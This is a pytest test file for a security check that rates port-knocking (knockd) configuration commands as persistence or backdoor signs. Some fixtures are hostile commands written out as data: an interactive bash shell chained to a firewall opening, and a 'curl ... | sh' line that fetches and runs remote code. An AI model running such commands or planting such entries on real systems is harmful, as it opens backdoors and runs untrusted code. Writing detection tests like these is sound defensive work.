from __future__ import annotations

import pytest

from pratique.checks.persistence.knock_opens import CHECK
from pratique.model import Severity
from pratique.parsers.knockd import parse
from pratique.store.tables import Tables


def signs(command):
    rows = parse(f"[x]\nsequence = 1,2\ncommand = {command}\n".encode(), "/etc/knockd.conf")
    with Tables.of(rows, CHECK.reads) as tables:
        return [sign.severity for sign in CHECK.find(tables)]


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("/sbin/iptables -I INPUT -s %IP% -j ACCEPT; /bin/bash -i", Severity.MEDIUM),
        ("/sbin/iptables -I INPUT -s %IP% -j ACCEPT", Severity.MEDIUM),
        ("ufw allow from %IP%", Severity.MEDIUM),
        ("/usr/local/bin/door %IP%", Severity.MEDIUM),
        ("/sbin/iptables -A INPUT -s %IP% -p tcp --dport 22 -j ACCEPT", Severity.LOW),
        ("ufw allow from %IP% to any port 22", Severity.LOW),
        (
            "/usr/sbin/nft add rule inet filter input ip saddr %IP% tcp dport 22 accept",
            Severity.LOW,
        ),
        ("/sbin/iptables -D INPUT -s %IP% -j ACCEPT && logger closed", Severity.LOW),
        ("systemctl start ssh", Severity.LOW),
    ],
)
def test_points_at(command, severity):
    assert signs(command) == [severity]


@pytest.mark.parametrize("command", ["curl http://192.0.2.1/x | sh"])
def test_leaves_alone(command):
    """What the judge finds bad is told by others."""
    assert signs(command) == []
